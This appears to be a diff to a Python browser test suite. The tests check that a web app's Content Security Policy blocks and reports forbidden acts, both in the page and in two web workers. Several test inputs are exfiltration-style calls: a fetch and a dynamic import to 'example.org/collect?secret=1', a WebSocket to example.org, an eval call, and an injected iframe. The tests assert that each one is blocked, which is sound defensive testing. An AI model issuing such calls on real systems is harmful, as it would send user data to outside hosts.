@@ -3,6 +3,7 @@ the browser's own network log, and what happens to code that tries to get out.""
 
 import json
 import re
+import time
 
 import pytest
 
@@ -10,6 +11,7 @@ from onglet_build import browser as browsers
 from onglet_build.driver import App
 
 FORBIDDEN = "https://example.org/collect?secret=1"
+EVAL = "() => { try { return eval('\"sent\"') } catch { return 'blocked' } }"
 
 
 def test_a_conversation_asks_nobody_else(app_page, watch, server):
@@ -54,7 +56,7 @@ def hosts_asked_for_pages(log: dict, origin: str) -> set[str]:
         "() => import(FORBIDDEN).then(() => 'sent', () => 'blocked')",
         "() => { try { new WebSocket('wss://example.org/'); return 'sent' }"
         " catch { return 'blocked' } }",
-        "() => { try { return eval('\"sent\"') } catch { return 'blocked' } }",
+        EVAL,
         "() => { const frame = document.createElement('iframe'); frame.src = FORBIDDEN;"
         " document.body.append(frame); return 'blocked' }",
     ],
@@ -63,6 +65,7 @@ def hosts_asked_for_pages(log: dict, origin: str) -> set[str]:
 def test_forbidden_acts_violate_the_policy(open_app, server, watch, act):
     """The other half of '0 violations': the policy is there, and violations are seen."""
     app = open_app(server).wait_live()
+    watch.provoked = True
     before = len(app.page.evaluate("() => policyViolations"))
     act = act.replace("FORBIDDEN", json.dumps(FORBIDDEN))
     if "WebSocket" not in act:
@@ -71,9 +74,27 @@ def test_forbidden_acts_violate_the_policy(open_app, server, watch, act):
         app.page.evaluate(act)
     app.page.wait_for_function("n => policyViolations.length > n", arg=before)
     assert not [path for _, path, _ in server.log if "secret" in path]
-    watch.off_origin.clear()
-    watch.violations.clear()
-    watch.errors.clear()
+
+
+def test_workers_are_under_the_policy_too(open_app, server, watch):
+    app = open_app(server).wait_live()
+    watch.provoked = True
+    for name in ("app/worker.js", "engine/worker.js"):
+        worker = next(worker for worker in app.page.workers if worker.url.endswith(name))
+        act = f"() => fetch({json.dumps(FORBIDDEN)}).then(() => 'sent', () => 'blocked')"
+        assert worker.evaluate(act) == "blocked"
+        assert worker.evaluate(EVAL) == "blocked"
+    reports = wait_for_reports(server, 4)
+    assert all(report["disposition"] == "report" for report in reports)
+
+
+def wait_for_reports(server, count: int) -> list[dict]:
+    """The policy violations that the browser told the server of, once there are `count`."""
+    deadline = time.monotonic() + 10
+    while len(server.posted) < count and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert len(server.posted) >= count
+    return [json.loads(body)["csp-report"] for _, body in server.posted]
 
 
 def test_the_page_has_no_peer_connections(app_page):
